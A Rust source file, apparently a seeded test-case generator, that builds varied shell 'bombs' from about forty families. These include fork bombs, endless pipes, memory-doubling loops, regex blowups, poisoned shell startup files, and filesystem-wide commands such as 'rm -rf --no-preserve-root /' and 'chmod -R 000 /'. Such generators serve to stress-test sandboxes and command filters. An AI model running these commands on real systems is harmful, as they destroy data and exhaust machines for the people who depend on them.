//! The rules by which bombs are made; each number gives the same one every time.

/// Numbers from a seed (splitmix64).
pub struct Rng(pub u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }

    pub fn below(&mut self, end: u64) -> u64 {
        self.next() % end
    }

    pub fn one<T: Copy>(&mut self, of: &[T]) -> T {
        of[self.below(of.len() as u64) as usize]
    }

    fn name(&mut self) -> String {
        (0..=self.below(3)).map(|_| (b'a' + self.below(26) as u8) as char).collect()
    }

    /// A number that somebody who wants much would write.
    fn huge(&mut self) -> String {
        let zeros = 6 + self.below(14) as usize;
        format!("{}{}", 1 + self.below(9), "0".repeat(zeros))
    }
}

/// What begins a bomb again: other processes, other shells.
const SHELLS: &[&str] = &["bash", "sh", "dash", "/bin/sh", "exec bash", "busybox sh"];
/// Programs that read all of their input.
const EATERS: &[&str] = &[
    "sort",
    "tac",
    "wc",
    "md5sum",
    "tail -n 3",
    "rev",
    "base64",
    "gzip -c",
    "od -c",
    "awk '{ a[NR] = $0 }'",
    "sed -n '$p'",
    "sed ':a;N;$!ba;s/y/z/g'",
    "tr y z",
    "uniq -c",
    "cat > /tmp/all",
    "tee /tmp/one /tmp/two",
    "xxd",
    "grep -c y",
    "cut -c1",
    "fold -w 1",
    "nl",
    "paste - - -",
    "shuf",
    "split -b 10 - /tmp/part",
    "dd of=/tmp/dd",
    "xargs echo",
    "xargs -n1 echo",
    "while read x; do a=$a$x; done",
    "mapfile",
    "read -d ''",
    "bash",
    "tar x",
    "bc",
    "python3",
    "perl -e '@a=<STDIN>'",
    "diff - /etc/passwd",
    "cmp - /dev/zero",
    "column",
    "fmt",
    "expand",
    "strings -n 1",
];
/// What never ends.
const ENDLESS: &[&str] = &[
    "yes",
    "yes $(seq 1000)",
    "cat /dev/zero",
    "cat /dev/urandom",
    "seq 1 999999999999999999",
    "while :; do echo y; done",
    "tr '\\0' y < /dev/zero",
    "head -c 99999999999 /dev/zero",
    "dd if=/dev/zero bs=1G",
    "yes | cat -n",
    "printf '%s\\n' {1..99999}; yes",
];

pub type Family = (&'static str, fn(&mut Rng) -> String);

/// The rules by which bombs are made.
pub const FAMILIES: &[Family] = &[
    ("fork bomb", |r| {
        let f = r.name();
        let body = r.one(&["F|F&", "F&F&", "F|F|F", "(F)&(F)&", "F&", "{ F; F; } &", "F $(F)&", "coproc F"]);
        let form = r.one(&["F(){ B;};F", "function F { B;}; F", "F(){ B;};F;F;F&", "F(){ B;};for i in 1 2;do F;done"]);
        form.replace('B', body).replace("&;", "& :;").replace('F', &f)
    }),
    ("fork bomb of programs", |r| {
        let sh = r.one(SHELLS);
        let form = r.one(&[
            "echo 'S $0 & S $0' > /tmp/f; S /tmp/f",
            "printf '#!/bin/sh\\n$0 & $0\\n' > /tmp/f; chmod +x /tmp/f; /tmp/f",
            "S -c 'eval \"$0\" & eval \"$0\"' 'S -c \"$0\" \"$0\"'",
            "python3 -c 'import os\nwhile 1: os.fork()'",
            "perl -e 'fork while fork'",
            "while :; do S & done",
            "for((;;)){ S -c 'sleep 99' & }",
            "nohup S -c 'while :; do sleep 9 & done' &",
        ]);
        form.replace('S', sh)
    }),
    ("job flood", |r| {
        format!("for i in $(seq {}); do sleep {} & done; jobs | wc -l", 300 + r.below(9000), r.below(99))
    }),
    ("endless output", |r| {
        format!("{} | {}", r.one(ENDLESS), r.one(&["cat", "cat | cat | cat", "tee /dev/null", "nl"]))
    }),
    ("endless input", |r| format!("{} | {}", r.one(ENDLESS), r.one(EATERS))),
    ("endless into a file", |r| {
        format!("{} > {}", r.one(ENDLESS), r.one(&["/tmp/x", "/dev/null", "/dev/shm/x", "~/x", "/x"]))
    }),
    ("endless into a value", |r| {
        let form = r.one(&[
            "x=$(E)",
            "echo $(E) | wc",
            "echo `E`",
            "read -r -N 99999999 x < <(E)",
            "a=( $(E) )",
            "[[ $(E) ]]",
        ]);
        form.replace('E', r.one(ENDLESS))
    }),
    ("brace explosion", |r| {
        let group = r.one(&["{a,b}", "{0..9}", "{a..z}", "{1..1000}", "{a,{b,{c,d}}}"]);
        format!(
            "{} {}",
            r.one(&["echo", "x=$(echo", "touch /tmp/", "for i in"]),
            group.repeat(3 + r.below(30) as usize)
        )
    }),
    ("brace range", |r| format!("echo {{{}..{}}}", r.one(&["1", "-99999", "0000001", "a"]), r.huge())),
    ("brace nesting", |r| {
        let depth = 10 + r.below(3000) as usize;
        format!("echo {}x{}", "{a,".repeat(depth), "}".repeat(depth))
    }),
    ("arithmetic", |r| {
        let form = r.one(&[
            "echo $((N**N**N))",
            "echo $((N<<N))",
            "x=x; echo $((x))",
            "a=b; b=a; echo $((a))",
            "x='x+x'; echo $((x))",
            "for ((i=0;;i++)); do :; done",
            "echo $(( -9223372036854775808 / -1 ))",
            "echo $(( -9223372036854775808 % -1 ))",
            "echo $((16#N)) $((99#z))",
            "let x=N*N*N*N*N*N; echo $x",
            "a[0]='a[0]'; echo $((a[0]))",
            "a=(); echo $((a[$((N))]=1))",
        ]);
        form.replace('N', &r.huge())
    }),
    ("deep arithmetic", |r| {
        let depth = 5 + r.below(9000) as usize;
        let (open, close) = r.one(&[("(", ")"), ("$((", "))"), ("-", ""), ("!", ""), ("1?", ":0"), ("a[", "]")]);
        format!("echo $(({}1{}))", open.repeat(depth), close.repeat(depth))
    }),
    ("doubling", |r| {
        let x = r.name();
        let form = r.one(&[
            "X=x; while :; do X=$X$X; done",
            "X=x; while :; do X+=$X; done",
            "X=x; for i in {1..64}; do X=$X$X$X; done; echo ${#X}",
            "X=(x); while :; do X=(${X[@]} ${X[@]}); done",
            "X=x; until false; do X=\"$X $X\"; set -- $X $X; done",
            "X=x; while :; do X=${X//x/xxxx}; done",
            "X=x; while :; do export X=$X$X; env | wc -c; done",
            "X=x; while :; do X=$(echo $X$X); done",
            "X=x; while :; do printf -v X '%s%s' \"$X\" \"$X\"; done",
            "echo x > /tmp/d; while :; do cat /tmp/d /tmp/d > /tmp/e; mv /tmp/e /tmp/d; done",
            "echo x > /tmp/d; while :; do cat /tmp/d >> /tmp/d; done",
            "declare -A X; i=0; while :; do X[$i]=$i$i; i=$((i+1)); done",
        ]);
        form.replace('X', &x)
    }),
    ("patterns in values", |r| {
        let x = "ab".repeat(10 + r.below(20_000) as usize);
        let form = r.one(&[
            "x=X; echo ${x//*(a|b)/y} | wc -c",
            "x=X; shopt -s extglob; echo ${x##+(a|ab|b)*c}",
            "x=X; echo ${x/%*a*a*a*a*a*a*a*b*b*c/} | wc -c",
            "x=X; case $x in *a*a*a*a*a*a*a*a*a*a*c) echo;; esac",
            "x=X; echo ${x//a/$x} | wc -c",
            "x=X; [[ $x == *a*b*a*b*a*b*a*b*c* ]]",
            "x=X; echo ${x^^} ${x:5:99999} ${x@Q} | wc -c",
        ]);
        form.replace('X', &x)
    }),
    ("deep nesting", |r| {
        let depth = 5 + r.below(2000) as usize;
        let (open, close) = r.one(&[
            ("(", ")"),
            ("{ ", ";}"),
            ("$(", ")"),
            ("\"$(", ")\""),
            ("if true; then ", "; fi"),
            ("while true; do ", "; break; done"),
            ("for i in 1; do ", "; done"),
            ("case x in x) ", ";; esac"),
            ("${x:-", "}"),
            ("f() { ", "; }"),
            ("eval ", ""),
            ("! ", ""),
            ("[[ ! ( ", " ) ]]"),
            ("<(", ")"),
            ("`", "`"),
            ("$'", "'"),
            ("bash -c '", "'"),
            ("time ", ""),
            ("x[", "]"),
            ("echo | ", ""),
            ("sudo ", ""),
            ("nice ", ""),
            ("env ", ""),
            ("command ", ""),
            ("xargs ", ""),
            ("timeout 9 ", ""),
        ]);
        let closed = if r.below(4) == 0 { depth / 2 } else { depth };
        format!("{}echo x{}", open.repeat(depth), close.repeat(closed))
    }),
    ("recursive functions", |r| {
        let form = r.one(&[
            "f() { f; }; f",
            "f() { f x$@; }; f",
            "f() { local a=$1$1; f $a; }; f a",
            "f() { echo $(f); }; f",
            "f() { (f); }; f",
            "f() { g; }; g() { f; }; f",
            "f() { eval f; }; f",
            "f() { trap f DEBUG; f; }; f",
            "f() { . /dev/stdin <<< f; }; f",
            "f() { f \"$@\" \"$@\"; }; f a b",
            "f() { if f; then f; fi; }; f",
            "f() { while f; do f; done; }; f",
            "f() { return $(f); }; f",
            "f() { f | cat; }; f",
        ]);
        form.replace('f', &r.name())
    }),
    ("endless loops", |r| {
        let head =
            r.one(&["while :", "until false", "while [ 1 ]", "while true", "while sleep 0", "until [[ a == b ]]"]);
        let body = r.one(&[
            ":",
            "echo x",
            "true | true",
            "(:)",
            "x=$(:)",
            "ls > /dev/null",
            "cd /tmp; cd /",
            "sleep 0.001",
            "continue",
            "kill -0 $$",
            "wait",
            "read -t 0",
            "set -- $@ x",
            "eval :",
            "break 0",
            "printf x > /tmp/w",
            "mkdir -p a; cd a",
            "exec 3<>/tmp/fd",
            "> /tmp/$RANDOM",
            "uname -a",
            "trap : INT",
        ]);
        format!("{head}; do {body}; done")
    }),
    ("traps", |r| {
        r.one(&[
            "trap 'kill -TERM $$' TERM; kill -TERM $$; while :; do :; done",
            "trap 'trap \"$BASH_COMMAND\" DEBUG' DEBUG; :",
            "trap 'false' ERR; set -E; false",
            "trap 'echo $(exit 1)' EXIT; trap",
            "trap 'eval \"$(trap -p DEBUG)\"' DEBUG; echo x",
            "trap '' INT QUIT TERM; while :; do :; done",
            "trap 'f' RETURN; f() { f; }; f",
            "set -x; PS4='$(echo $(echo $PS4))'; echo x; set +x",
        ])
        .to_string()
    }),
    ("prompts and aliases", |r| {
        r.one(&[
            "PROMPT_COMMAND='while :; do :; done'",
            "PROMPT_COMMAND='PROMPT_COMMAND=$PROMPT_COMMAND$PROMPT_COMMAND'",
            "PS1='$(while :; do :; done)'",
            "PS1='$PS1$PS1'; PS1=$(printf '\\\\w%.0s' {1..99999})",
            "alias a='b '; alias b='a '; a a a",
            "alias ls='ls ls '; ls; ls",
            "alias x='x x x'; x",
            "for i in {1..200}; do alias a$i=\"a$((i+1)) a$((i+1))\"; done; a1",
            "BASH_ENV=/tmp/b; echo 'bash -c :' > /tmp/b; export BASH_ENV; bash -c :",
            "echo 'bash -i' >> ~/.bashrc; bash -i",
            "echo '. ~/.bashrc' >> ~/.bashrc; . ~/.bashrc",
            "ENV=/tmp/e; export ENV; echo sh > /tmp/e; sh",
            "command_not_found_handle() { nosuch; }; nosuch",
        ])
        .to_string()
    }),
    ("huge numbers to programs", |r| {
        let form = r.one(&[
            "printf '%Nd\\n' 1 | wc -c",
            "printf '%.Nf\\n' 1 | wc -c",
            "printf '%*d' N 1",
            "printf '%s' {1..N}",
            "seq N",
            "seq -w 1 N | tail -1",
            "seq -f '%.99g' N",
            "seq 0 0.0000001 N | wc -l",
            "head -c N /dev/zero | wc -c",
            "head -n N /dev/zero",
            "tail -c N /dev/zero",
            "tail -n +N /dev/urandom",
            "dd if=/dev/zero of=/tmp/dd bs=N count=N",
            "dd if=/dev/zero of=/tmp/dd bs=1 seek=N count=1",
            "dd if=/dev/zero bs=N count=1 | wc -c",
            "truncate -s N /tmp/t; wc -c /tmp/t; cat /tmp/t | md5sum",
            "truncate -s 8E /tmp/t; ls -l /tmp/t; cp /tmp/t /tmp/u; sort /tmp/t",
            "fallocate -l N /tmp/f; ls -l /tmp/f; cat /tmp/f > /dev/null",
            "sleep N",
            "factor N9 N7",
            "fold -w N /etc/passwd",
            "cut -c N- /etc/passwd; cut -f 1-N /etc/passwd",
            "split -n N /etc/passwd /tmp/s",
            "shuf -i 1-N | head -1",
            "shuf -i 1-N -n N | wc -l",
            "expr N \\* N",
            "od -N N -w9999999 /dev/zero | wc -c",
            "xxd -c N /etc/passwd; xxd -l N /dev/zero | tail -1",
            "mktemp -u $(printf 'X%.0s' {1..5000})",
            "base64 -w N /dev/zero",
            "pr -w N /etc/passwd; expand -t N /etc/passwd",
            "sort -S N -k N /etc/passwd",
            "timeout N yes > /dev/null",
            "date -d @N; date -d \"N days\"; touch -d @N /tmp/x; ls -l /tmp/x",
            "kill -N 1; kill -9 N; renice N 1; ulimit -n N; ulimit -s N",
            "test N -lt 1; [ 1N -gt 0 ]; echo ${x:N:N}; set -- a; shift N",
            "exec N>/tmp/fd; read -u N x; read -N N x < /dev/zero",
            "sed -n 'Np' /dev/zero; sed 's/a/b/N' /etc/passwd | tail -1",
            "awk 'BEGIN { printf \"%Nd\", 1 }' | wc -c",
            "history N; fc -l -N; jobs %N; wait N; umask N; umask 9",
            "cal N; cal 1 N; ping -c N 192.0.2.1; nice -n N true",
            "find / -size +N -mtime -N | head -2; du -d N / | tail -1",
            "tar -b N -cf /tmp/t.tar /etc/passwd; gzip -N < /etc/passwd | wc -c",
        ]);
        form.replace('N', &r.huge())
    }),
    ("here-documents", |r| {
        let lines = r.below(4_000) as usize;
        let word = r.one(&["E", "'E'", "\"E\"", "-E"]);
        let line = r.one(&["x", "$(echo $x)", "${x:-y}", "`:`", "\\"]);
        format!(
            "{} <<{word}\n{}E",
            r.one(&["cat", "wc", "while read x; do :; done", "bash"]),
            format!("{line}\n").repeat(lines)
        )
    }),
    ("regular expressions", |r| {
        let text = "a".repeat(20 + r.below(3000) as usize);
        let pattern = r.one(&[
            "(a+)+b",
            "(a|a)*b",
            "(a*)*b",
            "(.*)*=.*b",
            "((a{0,50}){0,50}){0,50}b",
            "a{1000}{1000}",
            "(a?){500}a{500}",
            "^(([a-z])+.)+[A-Z]([a-z])+$",
            "(((((((((((a*)*)*)*)*)*)*)*)*)*)*b",
            "[[:alpha:]]{1,32767}b",
        ]);
        let form = r.one(&[
            "echo T | grep -E 'P'",
            "echo T | grep -oE 'P'",
            "echo T | grep -P '(?<=a)P'",
            "echo T | sed -E 's/P/x/g'",
            "echo T | awk '/P/ { print } { gsub(/P/, \"&&\") }'",
            "[[ T =~ P ]]",
            "echo T | perl -ne 'print if /P/'",
            "echo T | python3 -c 'import re,sys; print(re.match(r\"P\", sys.stdin.read()))'",
            "expr T : 'P'",
            "find /etc -regextype posix-extended -regex 'P'",
            "echo T | grep '\\(a*\\)*\\1\\1b'",
            "echo T | sed 's/\\(a*\\)*\\1*b//'",
        ]);
        form.replace('P', pattern).replace('T', &text)
    }),
    ("find", |r| {
        let action = r.one(&[
            "-exec echo {} \\;",
            "-exec sh -c 'find / -exec echo {} \\;' \\;",
            "-print0 | xargs -0 -n1 cat",
            "-type f -exec cat {} + | md5sum",
            "-name '*' -o -name '*' -print | sort | uniq | tail -1",
            "-exec cp -r {} /tmp/c \\;",
            "-ls | wc -l",
            "-delete",
            "| while read f; do stat \"$f\"; done",
            "-type f | xargs grep -l root",
        ]);
        format!("find {} {action}", r.one(&["/", "/proc", "/sys", "/usr /etc /var", "/ / / /"]))
    }),
    ("glob explosion", |r| {
        let depth = 2 + r.below(7) as usize;
        let form = r.one(&[
            "echo G | wc -c",
            "ls -d G | tail -1",
            "for f in G; do :; done",
            "cat G > /dev/null 2>&1",
            "x=(G); echo ${#x[@]}",
        ]);
        let part = r.one(&["/*", "/?*", "/[a-z]*", "/*[!x]*"]);
        form.replace('G', &format!("{}{}", part.repeat(depth), r.one(&["", "/", "/../*"])))
    }),
    ("walks", |r| {
        r.one(&[
            "ls -laR / | wc -l",
            "du -a / | sort -n | tail -3",
            "cp -r / /tmp/copy",
            "tar cf /tmp/all.tar /",
            "tar czf - / | md5sum",
            "grep -r root / 2>/dev/null | wc -l",
            "rm -rf --no-preserve-root / ; ls",
            "chmod -R 000 /; chown -R nobody /; ls /",
            "cat /proc/*/* 2>/dev/null | wc -c",
            "cp -r /tmp /tmp/tmp/tmp; mkdir /tmp/q; mv /tmp/q /tmp/q/r",
            "shopt -s globstar; echo /**/** | wc -c",
            "md5sum $(find / -type f) | tail -1",
            "strings -n 1 /bin/* | tail -1; od -c /usr/bin/* | tail -1",
            "while :; do cp -r /etc /tmp/$RANDOM; done",
            "diff -r / /; cmp /dev/zero /dev/zero",
        ])
        .to_string()
    }),
    ("links", |r| {
        r.one(&[
            "ln -s a b; ln -s b a; cat a; cd a; ls -l a/a/a; find -L . | head",
            "mkdir /tmp/l; ln -s /tmp/l /tmp/l/l; ls -R /tmp/l/l/l/l; find -L /tmp/l; du -L /tmp/l; cp -rL /tmp/l /tmp/m",
            "ln -s . x; ls x/x/x/x/x/x/x/x/x/x/x/x/x/x/x/x/x/x/x/x/x/x/x/x/x/x/x/x/x/x/x/x/x/x/x/x/x/x/x/x/x/x; ls -RL x | head -3",
            "for i in {1..100}; do ln -s l$i l$((i+1)); done; cat l101; readlink -f l101",
            "ln -s /dev/zero z; cat z | md5sum; wc -c z; sort z",
            "ln -s /proc/self/fd/0 me; bash me; ln -s /proc/self/root r; ls -R r/r/r | head",
        ])
        .to_string()
    }),
    ("many files", |r| {
        let form = r.one(&[
            "touch /tmp/{1..N}; ls /tmp | wc -l; rm /tmp/*",
            "for i in $(seq N); do echo $i > /tmp/$i; done; cat /tmp/* | wc",
            "seq N | xargs touch; ls -l | tail -1",
            "mkdir -p $(printf 'd/%.0s' {1..N}); find . | wc -l",
            "for i in $(seq N); do mkdir d; cd d; done; pwd | wc -c",
            "while :; do mktemp; done",
            "split -l 1 <(seq N) /tmp/x; ls /tmp | wc -l",
            "awk 'BEGIN { for (i = 0; i < N; i++) print i > (\"/tmp/a\" i) }'",
            "touch $(printf 'x%.0s' {1..N})",
            "for i in $(seq N); do useradd u$i; done; wc -l /etc/passwd",
            "for i in $(seq N); do ln /etc/passwd /tmp/p$i; done",
        ]);
        form.replace('N', r.one(&["500", "3000", "20000", "100000"]))
    }),
    ("arrays", |r| {
        let form = r.one(&[
            "a[N]=1; echo ${#a[@]} ${!a[@]}; for i in ${!a[@]}; do :; done",
            "a=([N]=x [1N]=y); echo ${a[@]: -1}",
            "for i in {1..99999}; do a[i]=$i; done; echo ${#a[@]}",
            "a=({1..99999}); b=(\"${a[@]}\" \"${a[@]}\" \"${a[@]}\"); echo ${#b[@]}",
            "a=(1); while :; do a+=(\"${a[@]}\"); done",
            "mapfile -t a < <(yes); echo ${#a[@]}",
            "mapfile -n N -O N a < /etc/passwd; echo ${#a[@]}",
            "read -a a <<< \"$(seq 99999)\"; printf '%s\\n' \"${a[@]}\" | wc -l",
            "declare -a a; a[-N]=1; a[N-N]=2; unset 'a[N]'; echo ${a[*]/#/x}",
            "set -- {1..99999}; for i; do shift; set -- $@ $i; done",
        ]);
        form.replace('N', &r.huge())
    }),
    ("sed loops", |r| {
        r.one(&[
            "echo x | sed ':a;s/x/xx/;ta'",
            "echo x | sed ':a;ba'",
            "echo x | sed ':a;G;h;ba'",
            "echo x | sed 's/x/&&&&&&&&/g;s/x/&&&&&&&&/g;s/x/&&&&&&&&/g;s/x/&&&&&&&&/g;s/x/&&&&&&&&/g;s/x/&&&&&&&&/g;s/x/&&&&&&&&/g;s/x/&&&&&&&&/g;s/x/&&&&&&&&/g' | wc -c",
            "seq 9 | sed -n 'H;x;G;G;G;x;H;x;H;p;D'",
            "yes | sed '$!N;$!D'",
            "echo | sed ':a;s/^/x/;p;ba'",
            "sed -i 's/./&&/g' /etc/services; sed -i 's/./&&/g;s/./&&/g;s/./&&/g;s/./&&/g' /etc/services; wc -c /etc/services",
            "sed 'r /dev/zero' /etc/passwd",
            "sed 'w /tmp/o' /dev/zero",
            "echo x | sed 'e yes'",
            "sed -n 'l 1' /dev/zero",
        ])
        .to_string()
    }),
    ("awk loops", |r| {
        let form = r.one(&[
            "awk 'BEGIN { while (1) x++ }'",
            "awk 'BEGIN { x = \"x\"; while (1) x = x x }'",
            "awk 'BEGIN { for (;;) a[i++] = i }'",
            "awk 'function f(n) { return f(n + 1) } BEGIN { f(0) }'",
            "awk 'function f(a) { a[length(a)] = 1; f(a) } BEGIN { f(z) }'",
            "awk 'BEGIN { while (\"yes\" | getline) n++; print n }'",
            "awk 'BEGIN { while (1) system(\"true\") }'",
            "awk 'BEGIN { while (1) print \"x\" | \"cat\" }'",
            "awk 'BEGIN { $N = 1; print NF }'",
            "awk 'BEGIN { NF = N; print length($0) }'",
            "awk '{ while ((getline line < \"/etc/passwd\") >= 0) n++ }' /etc/passwd",
            "awk 'BEGIN { printf \"%Ns\", \"\" }' | wc -c",
            "awk 'BEGIN { print substr(\"x\", -N, N), index(\"x\", \"\"), 2 ^ N, exp(N), int(N N) }'",
            "awk 'BEGIN { x = sprintf(\"%99999s\", \"\"); while (i++ < 99) gsub(/ /, \"  \", x); print length(x) }'",
            "awk 'BEGIN { do { split(x = x \"a b \", a) } while (1) }'",
        ]);
        form.replace('N', &r.huge())
    }),
    ("bc and dc", |r| {
        let form = r.one(&[
            "echo '9^N' | bc",
            "echo 'scale=N; 1/3' | bc",
            "echo 'scale=99999; 4*a(1)' | bc -l",
            "echo 'while (1) { x = x + 1 }' | bc",
            "echo 'define f(x) { return f(x) }; f(1)' | bc",
            "echo 'x=9; while (1) { x = x * x }' | bc",
            "echo 'a[N]=1; sqrt(N^99); obase=N; N' | bc",
            "echo '9 N ^ p' | dc",
            "echo '[lax]salax' | dc",
            "echo 'N k 2 v p' | dc",
            "echo \"$(printf '(%.0s' {1..9999})\" | bc",
            "echo 'for (i = 0; ; i++) i' | bc",
            "echo '2^2^2^2^2^2' | bc | wc -c",
        ]);
        form.replace('N', &r.huge())
    }),
    ("python", |r| {
        let form = r.one(&[
            "while True: pass",
            "x = \"x\"\nwhile True: x += x",
            "print(9 ** 9 ** 9)",
            "print(\"x\" * N)",
            "[0] * N",
            "def f(): f()\nf()",
            "f = lambda: f()\nf()",
            "import os\nwhile True: os.system(\"true\")",
            "for i in range(N): print(i)",
            "print(list(range(N)))",
            "while True: print(\"x\")",
            "import sys\nsys.stdout.write(\"x\" * N)",
            "exec(\"exec(\" * 500)",
            "print(\"%Nd\" % 1)",
            "a = []\nwhile True: a.append(a)",
            "x = [0]\nwhile True: x = x + x",
            "import time\nwhile True: time.sleep(0)",
            "eval(\"(\" * 9999)",
            "open(\"/tmp/p\", \"w\").write(\"x\" * N)",
        ]);
        format!("python3 -c '{}'", form.replace('N', &r.huge()))
    }),
    ("perl", |r| {
        let form = r.one(&[
            "while (1) {}",
            "1 while 1",
            "$x = \"x\"; $x .= $x while 1",
            "print \"x\" x N",
            "@a = (1) x N; print scalar @a",
            "sub f { f() } f()",
            "push @a, 1 while 1",
            "print \"x\" while 1",
            "for (1..N) { print $_ }",
            "$h{$i++} = 1 while 1",
            "system(\"true\") while 1",
            "printf \"%Nd\", 1",
            "$_ = \"a\" x 9999; /(a+)+b/",
            "eval \"eval \" x 9999",
            "$a[N] = 1",
            "sleep N",
        ]);
        format!("perl -e '{}'", form.replace('N', &r.huge()))
    }),
    ("archives", |r| {
        r.one(&[
            "dd if=/dev/zero bs=1M count=999 2>/dev/null | gzip > /tmp/b.gz; zcat /tmp/b.gz | wc -c",
            "head -c 99999999 /dev/zero | gzip | gzip | gzip > /tmp/b; zcat /tmp/b | zcat | zcat | wc -c",
            "truncate -s 9G /tmp/z; tar cf /tmp/z.tar /tmp/z; ls -l /tmp/z.tar",
            "truncate -s 9G /tmp/z; gzip /tmp/z; ls -l /tmp/z.gz",
            "gzip < /dev/zero > /tmp/g.gz; ls -l /tmp/g.gz",
            "cat /dev/urandom | tar x; cat /dev/urandom | gunzip",
            "tar cf - / | tar xf - -C /tmp",
            "mkdir a; tar cf a/a.tar a; tar cf a/b.tar a; tar xf a/b.tar",
            "yes | base64 | base64 | base64 | base64 -d | wc -c",
            "printf '\\x1f\\x8b\\x08\\x00%.0s' {1..9999} > /tmp/m.gz; zcat /tmp/m.gz | wc -c",
            "xxd -r <<< 'ffffffffffff: 41' > /tmp/x; ls -l /tmp/x",
        ])
        .to_string()
    }),
    ("pipes and descriptors", |r| {
        let form = r.one(&[
            "C",
            "mkfifo /tmp/f; cat /tmp/f > /tmp/f",
            "mkfifo /tmp/f; cat /tmp/f | tee /tmp/f & echo x > /tmp/f; wait",
            "exec 3< <(yes); while read -u 3 x; do :; done",
            "yes > >(cat > >(cat > >(cat)))",
            "cat <(cat <(cat <(cat <(yes))))",
            "for i in {3..999}; do eval \"exec $i>/tmp/$i\"; done; ls /proc/self/fd | wc -l",
            "coproc yes; cat <&${COPROC[0]}",
            "while :; do exec {fd}</dev/null; done",
            "cat < /tmp > /tmp/x; cat /dev/stdin < /dev/zero; cat - - - < /dev/zero",
            "yes | (sleep 1; cat) | (sleep 1; head -1) | cat",
            "yes | yes | yes | sleep 99",
            "tail -f /dev/null & tail -f /etc/passwd /dev/zero",
        ]);
        form.replace('C', &format!("yes{}", " | cat".repeat(10 + r.below(500) as usize)))
    }),
    ("long words", |r| {
        let len = r.one(&[1000, 10_000, 60_000, 200_000]) as usize;
        let unit = r.one(&[
            "a", "$x", "\\", "'", "\"", "~", "*", "[", "?", "/", "{", "../", "$(", "`", "!", "&", ";", "\u{e9}", "|",
        ]);
        let head =
            r.one(&["echo ", "", "cd ", "cat ", "x=", "[[ x == ", "ls -", "case x in ", "alias ", "wget http://"]);
        format!("{head}{}", unit.repeat(len / unit.len()))
    }),
    ("history and editing", |r| {
        r.one(&[
            "set -o history; while :; do history -s \"$(history)\"; done",
            "HISTSIZE=999999999; for i in {1..99999}; do history -s x$i; done; history | tail -1",
            "fc -e - ; fc -s; fc -s fc",
            "!!; !!; !-1; ^a^b; !?!?",
            "bind -x '\"a\": bash'; set -o vi; echo x",
            "while :; do fc -l -1 > /dev/null; done",
        ])
        .to_string()
    }),
    ("waits", |r| {
        r.one(&[
            "sleep infinity",
            "sleep 999d & wait",
            "wait %%; read x < /tmp/nothing; cat",
            "while :; do sleep 0.0001; done",
            "timeout 0 sleep 99 & timeout 99999 sleep 99999",
            "watch -n 0.1 date",
            "tail -f /var/log/syslog",
            "top -d 0.01",
            "ping 127.0.0.1",
            "nc -l 4444",
            "ssh 192.0.2.9",
            "vi /etc/passwd",
            "nano x",
            "less /etc/services",
            "passwd",
            "su nobody -s /bin/cat",
            "script; screen; tmux",
            "mysql; python3; bc; ftp; telnet",
        ])
        .to_string()
    }),
    ("names and scopes", |r| {
        let form = r.one(&[
            "declare -n a=a; echo $a; a=1",
            "declare -n a=b b=a; echo $a; a=1; unset a",
            "declare -n a='a[0]'; a=1; echo $a",
            "x='$x'; eval eval eval eval echo $x; y='eval \"$y\"'; eval \"$y\"",
            "v=v; for i in {1..N}; do v=\\${!v}; done; eval echo $v",
            "f() { local -n r=$1; f r; }; f q",
            "for i in {1..N}; do eval \"v$i=\\$i\"; done; set | wc -l; echo ${!v*} | wc -w",
            "for i in {1..N}; do eval \"f$i() { f$((i+1)); }\"; done; f1; declare -f | wc -l",
            "export $(for i in {1..N}; do echo v$i=$i; done); env | wc -l; bash -c 'bash -c env' | wc -l",
            "readonly -a r=({1..N}); r+=(x); unset r; declare -p r | wc -c",
            "IFS=; x=$(seq N); echo $x | wc -l; IFS=0123456789; echo $x | wc -w",
        ]);
        form.replace('N', r.one(&["100", "5000", "50000"]))
    }),
    ("shells in shells", |r| {
        let sh = r.one(SHELLS);
        let form = r.one(&[
            "while :; do S -c :; done",
            "S -c 'S -c \"S -c exit\"'; S $0",
            "echo 'S /tmp/r' > /tmp/r; S /tmp/r",
            "echo 'S /tmp/r; S /tmp/r' > /tmp/r; S /tmp/r",
            "S < <(while :; do echo S; done)",
            "yes S | S",
            "cp $(which bash) /tmp/b; echo '/tmp/b /tmp/s' > /tmp/s; /tmp/b /tmp/s",
            "printf '#!/tmp/i\\n' > /tmp/i; chmod +x /tmp/i; /tmp/i",
            "printf '#!/bin/sh /tmp/i\\n/tmp/i $@ x' > /tmp/i; chmod +x /tmp/i; /tmp/i",
            "su -c 'su -c \"su -c id\"'; sudo sudo sudo sudo S -c :",
            "exec S -c 'exec $0 -c \"exec $0\"'",
        ]);
        form.replace('S', sh)
    }),
];

pub fn bomb(number: u64) -> (&'static str, String) {
    let (family, make) = FAMILIES[(number % FAMILIES.len() as u64) as usize];
    (family, make(&mut Rng(number)))
}
